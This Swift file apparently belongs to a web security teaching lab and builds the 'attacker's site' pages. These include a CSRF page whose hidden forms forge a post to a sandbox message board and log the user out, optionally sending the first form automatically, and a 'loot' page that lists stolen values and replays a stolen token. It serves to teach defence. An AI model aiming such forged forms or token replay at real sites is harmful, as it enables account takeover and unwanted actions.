import HTTPTypes
import Hummingbird

/// The attacker's pages. They stand at another site than the victim, and say so.
struct AttackerPages {
  /// The victim's origin; nil where this server has no other site, so that the two stand at one.
  let victim: String?

  private var warning: String {
    let place =
      victim == nil
      ? "Here it has to stand at the same site as the board." : "It stands at another site than the board."
    return """
      <p class="soft">This page plays the attacker's part in the lab. \(place) It knows nothing but what it is sent.</p>
      """
  }

  var index: Response {
    LabPage(
      owner: .attacker,
      title: "The attacker's site",
      body: """
        \(warning)
        <ul>
        <li><a href="/attacker/csrf">Kittens</a>: a page that makes your browser post on the board</li>
        <li><a href="/attacker/loot">Loot</a>: what was stolen so far</li>
        <li><a href="\((victim ?? "").escapedForHTML)/sandbox/board">The board</a>, the victim</li>
        </ul>
        """
    ).response()
  }

  /// Two forms that another site's page may send without asking.
  var crossSiteForms: Response {
    guard let victim else { return noOtherSite }
    let page = LabPage(
      owner: .attacker,
      title: "Kittens",
      script: "/attacker/csrf.js",
      body: """
        \(warning)
        <form id="board" method="post" action="\(victim.escapedForHTML)/sandbox/board">
        <p>The first button looks harmless. It sends a form to the board, and your browser adds whatever cookies it
        holds for the board and may send along.</p>
        <input type="hidden" name="message" value="I love kittens. (I never wrote this.)">
        <button>Show me the kittens</button>
        </form>
        <form id="logout" method="post" action="\(victim.escapedForHTML)/auth/logout">
        <p>The second one sends a form to the sandbox's logout.</p>
        <button>Show me more kittens</button>
        </form>
        <p>A real attacker does not wait for you to press anything: <a href="/attacker/csrf#board">send the first form
        when the page opens</a>.</p>
        """
    )
    return page.response(headers: [.contentSecurityPolicy: policy(victim)])
  }

  /// Said rather than shown: from the board's own site every form is let through, and nothing would be learned.
  private var noOtherSite: Response {
    LabPage(
      owner: .attacker,
      title: "Kittens",
      body: """
        \(warning)
        <p>A forged form has to come from another site, and this server has one host name only. Run the notebook on your
        own machine, where <code>localhost</code> and <code>127.0.0.1</code> are two sites:
        <code>signet serve</code>.</p>
        <p><a href="/attacker/loot">The loot</a> works here as well.</p>
        """
    ).response()
  }

  /// The usual policy lets forms go to the page's own site alone; an attacker's would not.
  private func policy(_ victim: String) -> String {
    [
      "default-src 'none'", "script-src 'self'", "style-src 'self'", "img-src data:", "base-uri 'none'",
      "form-action 'self' \(victim)", "frame-ancestors 'none'", "require-trusted-types-for 'script'",
    ].joined(separator: "; ")
  }

  func loot(_ entries: [Loot.Entry]) -> Response {
    LabPage(
      owner: .attacker,
      title: "Loot",
      script: "/attacker/loot.js",
      body: """
        \(warning)
        <form id="use">
        <label for="token">A stolen token</label>
        <input id="token" name="token" required autocomplete="off" spellcheck="false">
        <button>Use it on another computer</button>
        <p id="used" role="status"></p>
        </form>
        <h2>What was collected</h2>
        <p id="none"\(entries.isEmpty ? "" : " hidden")>Nothing yet.</p>
        <ol id="loot" class="loot" aria-live="polite">
        \(entries.map(Self.entry).joined())</ol>
        """
    ).response()
  }

  private static func entry(_ entry: Loot.Entry) -> String {
    let values = entry.values + (entry.referer.map { [Loot.Entry.Value(name: "Referer", value: $0)] } ?? [])
    let list = values.map {
      "<dt>\($0.name.escapedForHTML)</dt><dd>\($0.value.escapedForHTML)</dd>"
    }.joined()
    return """
      <li class="entry" data-number="\(entry.number)"><dl>\(list)</dl></li>

      """
  }
}
